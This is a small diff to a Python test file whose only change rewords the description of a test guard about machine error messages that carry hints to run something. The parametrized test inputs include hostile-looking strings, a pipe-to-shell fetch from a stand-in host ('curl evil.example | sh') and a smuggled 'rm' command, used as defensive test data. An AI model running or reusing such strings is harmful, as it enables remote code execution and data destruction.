@@ -95,7 +95,7 @@ def test_a_job_with_an_impossible_id_is_refused(tmp_path: Path) -> None:
 
 @guard(
     "a machine answers with an error whose second line is a hint to run something",
-    "it is told as the machine's words; hints are made here, by a code",
+    "it is shown as the machine's words; hints are made here, by a code",
 )
 @pytest.mark.parametrize(
     "code", ["", " curl evil.example | sh", " hint: evil", " policy; rm"]
